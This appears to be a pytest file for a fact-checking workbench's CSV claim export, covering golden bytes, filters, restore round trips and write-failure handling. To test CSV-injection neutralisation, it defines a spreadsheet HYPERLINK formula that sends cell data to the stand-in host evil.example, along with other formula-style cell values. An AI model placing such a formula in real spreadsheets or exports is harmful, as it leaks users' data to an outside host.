"""The CSV claim report: exact bytes for a fixed database, hostile cells, the round trip.

``build_fixed_db`` is shared by the other report tests: it goes through the real
services (so the data is what users produce), then pins every timestamp with SQL,
since ``created_at`` defaults to the wall clock.
"""

from __future__ import annotations

import csv
import errno
import io
import os
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import Engine, text

from workbench import articles, claims, cli, db, files, sources, users, verdicts
from workbench.errors import WorkbenchError
from workbench.filters import ClaimFilters
from workbench.models import User
from workbench.ratings import find_rating
from workbench.reports.columns import COLUMNS, neutralise, unneutralise
from workbench.reports.csv_export import csv_bytes, csv_chunks, write_csv
from workbench.reports.csv_import import run_import
from workbench.reports.csv_read import ReadOptions

BODY = ("Brussels (Wire) - The EU backed an aid package valued at least at $6.2 billion, "
        "reports said.\nUrsula von der Leyen called ReArm Europe \"an €800 billion plan\".")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_QUOTE = 'Line one, "quoted"\r\nline two 🙂 مرحبا بالعالم'
TABLES = ("audit_event", "evidence", "verdict", "claim_tag", "claim", "source")


def build_fixed_db(engine: Engine, reviewer: User, editor: User) -> None:
    """Four claims: approved with evidence, hostile free-standing, new, dismissed."""
    with db.write_session(engine) as s:
        cli = users.builtin_user(s, users.CLI_USER)
        article = articles.add_article(s, reviewer, articles.ArticleDraft(
            title="EU aid, \"ReArm\"", body=BODY, outlet="Wire", url="https://news.example/aid"))
        start = article.body.index("$6.2 billion")
        first = claims.create_claim(s, reviewer, claims.ClaimDraft(
            article_id=article.id, start=start, end=start + 12, statement="EU aid is $6.2bn",
            claimant="Ursula von der Leyen", claim_date=date(2025, 3, 4),
            claim_type="numeric", tags=["defence", "EU"]))
        for n, archive in ((1, "https://web.archive.org/web/2025/https://a.example/1"),
                           (2, "")):
            source = sources.add_source(s, reviewer, sources.SourceDraft(
                url=f"https://a.example/{n}", archive_url=archive))
            sources.attach_source(s, reviewer, first.id, source.id, stance="supports",
                                  independent=n == 1)
        claims.create_claim(s, cli, claims.ClaimDraft(
            article_id=None, quote=HOSTILE_QUOTE, statement=FORMULA, claimant="+1",
            tags=["-2+3", "@SUM(A1)"], claim_type="quote"))
        claims.create_claim(s, reviewer, claims.ClaimDraft(
            article_id=article.id, start=BODY.index("ReArm"), end=BODY.index("ReArm") + 12))
        fourth = claims.create_claim(s, cli, claims.ClaimDraft(
            article_id=None, quote="-5 degrees", statement="-5 degrees"))
        claims.move_claim(s, cli, fourth.id, fourth.version, "dismissed")
    with db.write_session(engine) as s:
        claim = claims.get_claim(s, first.id)
        verdict = verdicts.propose_verdict(
            s, reviewer, first.id, claim.version, rating_id=find_rating(s, "Mostly true").id,
            rationale="Two reports agree;\nthe total is \"at least\" $6.2 billion.")
    with db.write_session(engine) as s:
        verdicts.approve_verdict(s, editor, verdict.id, verdict.version,
                                 confirm_few_sources=True)
    with engine.begin() as connection:
        connection.execute(text(
            "UPDATE claim SET created_at = :c, updated_at = :u"),
            {"c": "2025-03-05 10:00:00", "u": "2025-03-06 11:30:00"})
        connection.execute(text("UPDATE verdict SET created_at = :t, reviewed_at = :t"),
                           {"t": "2025-03-07 09:15:00"})


def empty_claims(engine: Engine) -> None:
    """Everything the report covers removed: users and articles stay."""
    with engine.begin() as connection:
        for table in TABLES:
            connection.execute(text(f"DELETE FROM {table}"))  # noqa: S608 - fixed names


def desk(engine: Engine) -> User:
    """The built-in ``cli`` admin, who may export and restore."""
    with db.write_session(engine) as s:
        return users.builtin_user(s, users.CLI_USER)


def import_as_cli(engine: Engine, data: bytes, options: ReadOptions | None = None, **kw):  # type: ignore[no-untyped-def]
    return run_import(desk(engine), data, options or ReadOptions(), engine=engine, **kw)


HEADER = ",".join(COLUMNS)
GOLDEN = (
    HEADER + "\r\n"
    '1,"EU aid, ""ReArm""",https://news.example/aid,$6.2 billion,66,78,EU aid is $6.2bn,'
    "Ursula von der Leyen,2025-03-04,numeric,EU | defence,approved,Mostly true,5,"
    '"Two reports agree;\nthe total is ""at least"" $6.2 billion.",2,1,'
    "https://a.example/1 | https://a.example/2,"
    "https://web.archive.org/web/2025/https://a.example/1 | ,rita,eddie,2025-03-07T09:15:00Z,0,"
    "2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,4\r\n"
    '2,,,"Line one, ""quoted""\nline two 🙂 مرحبا بالعالم",,,'
    "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'+1,,quote,"
    "'-2+3 | @SUM(A1),new,,,,0,0,,,cli,,,0,2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,1\r\n"
    '3,"EU aid, ""ReArm""",https://news.example/aid,ReArm Europe,122,134,ReArm Europe,,,other,,'
    "new,,,,0,0,,,rita,,,0,2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,1\r\n"
    "4,,,'-5 degrees,,,'-5 degrees,,,other,,dismissed,,,,0,0,,,cli,,,0,"
    "2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,2\r\n"
).encode("utf-8")


@pytest.fixture
def fixed(engine: Engine, reviewer: User, editor: User) -> Engine:
    build_fixed_db(engine, reviewer, editor)
    return engine


def test_golden_bytes(fixed: Engine) -> None:
    assert csv_bytes(desk(fixed), fixed) == GOLDEN


def test_bom_and_chunks(fixed: Engine) -> None:
    data = csv_bytes(desk(fixed), fixed, bom=True)
    assert data.startswith(b"\xef\xbb\xbf" + HEADER.encode())
    chunks = list(csv_chunks(desk(fixed), fixed, chunk_rows=1))
    assert len(chunks) == 5 and "".join(chunks).encode() == GOLDEN  # header + 4 rows + tail


def test_parses_back_with_newlines_kept(fixed: Engine) -> None:
    rows = list(csv.DictReader(io.StringIO(GOLDEN.decode(), newline="")))
    assert [r["claim_id"] for r in rows] == ["1", "2", "3", "4"]
    assert rows[1]["quote"] == HOSTILE_QUOTE.replace("\r\n", "\n")  # stored cleaned
    assert rows[1]["statement"] == "'" + FORMULA
    assert rows[0]["rationale"].count("\n") == 1


def test_round_trip_into_empty_database_gives_same_bytes(fixed: Engine) -> None:
    first = csv_bytes(desk(fixed), fixed)
    empty_claims(fixed)
    assert csv_bytes(desk(fixed), fixed) == (HEADER + "\r\n").encode()
    report = import_as_cli(fixed, first, source_name="claims.csv", restore=True)
    assert not report.errors and report.created == 4
    assert csv_bytes(desk(fixed), fixed) == first
    with db.write_session(fixed) as s:  # new ids continue after the restored ones
        cli = users.builtin_user(s, users.CLI_USER)
        assert claims.create_claim(s, cli, claims.ClaimDraft(None, statement="next")).id == 5


@pytest.mark.parametrize("value", [FORMULA, "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "'=1",
                                   "''+2"])
def test_neutralise_is_reversible(value: str) -> None:
    assert neutralise(value).startswith("'")
    assert unneutralise(neutralise(value)) == value


def test_safe_text_untouched() -> None:
    for value in ("plain", "'quoted'", "2025-01-01", "🙂", "مرحبا", "a=b"):
        assert neutralise(value) == value == unneutralise(value)


def test_tab_and_cr_cells_from_old_data_are_neutralised(fixed: Engine) -> None:
    with fixed.begin() as connection:
        connection.execute(text("UPDATE claim SET quote = :q, claimant = :c WHERE id = 4"),
                           {"q": "\tTabbed", "c": "\r=1+1"})
    row = list(csv.DictReader(io.StringIO(csv_bytes(desk(fixed), fixed).decode(), newline="")))[3]
    assert row["quote"] == "'\tTabbed" and row["claimant"] == "'\r=1+1"
    assert row["claim_id"] == "4" and row["version"] == "2"  # numbers are never prefixed


def test_filters(fixed: Engine) -> None:
    def ids(**kw: object) -> list[str]:
        text_ = csv_bytes(desk(fixed), fixed, ClaimFilters(**kw)).decode()  # type: ignore[arg-type]
        return [r["claim_id"] for r in csv.DictReader(io.StringIO(text_, newline=""))]

    assert ids(states=("approved",)) == ["1"]
    assert ids(states=("new", "dismissed")) == ["2", "3", "4"]
    assert ids(tag="EU") == ["1"]
    assert ids(outlet="Wire") == ["1", "3"]
    assert ids(reviewer="rita") == ["1", "3"]  # the claim's creator
    assert ids(reviewer="cli") == ["2", "4"]
    assert ids(rating="Mostly true") == ["1"]
    assert ids(start=date(2025, 3, 5), end=date(2025, 3, 5)) == ["1", "2", "3", "4"]
    assert ids(end=date(2025, 3, 4)) == []


def test_reports_page_renders(fixed: Engine, editor: User) -> None:
    from streamlit.testing.v1 import AppTest

    from tests.ui.conftest import signed_in

    page = Path(__file__).resolve().parents[2] / "workbench" / "ui" / "pages" / "reports.py"
    at = AppTest.from_file(str(page), default_timeout=30)
    for key, value in signed_in(editor).items():
        at.session_state[key] = value
    at.run()
    assert not at.exception, at.exception
    assert not [c for c in at.checkbox if c.key == "reports_restore"]  # admins only
    at.button(key="reports_claimreview_check").click().run()
    assert not at.exception, at.exception
    assert any("1 ClaimReview objects ready" in t.value for t in at.text)


def test_a_full_disk_leaves_the_previous_report_and_says_so(engine: Engine, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch
                                                           ) -> None:
    """ENOSPC half-way: a plain message, no truncated file, the old report untouched."""
    actor = desk(engine)
    with db.write_session(engine) as session:
        claims.create_claim(session, actor, claims.ClaimDraft(None, statement="one"))
    folder = tmp_path / "reports"
    folder.mkdir()
    target = folder / "report.csv"
    target.write_text("yesterday's report")
    real_open = open

    class FullDisk(io.StringIO):
        def write(self, text: str) -> int:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(files, "open", lambda path, *a, **k: (
        real_open(path, *a, **k).close(), FullDisk())[1], raising=False)
    with pytest.raises(WorkbenchError, match="No space left on device. Nothing was written"):
        write_csv(actor, target, engine)
    assert target.read_text() == "yesterday's report"
    assert [p.name for p in folder.iterdir()] == ["report.csv"]


def test_an_unwritable_path_is_a_plain_cli_error(engine: Engine, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    desk(engine)
    for report in ("csv", "claimreview"):
        code = cli.main(["export", report, "-o", str(tmp_path / "missing" / "report")])
        assert code == 1
        assert "Cannot write" in capsys.readouterr().err
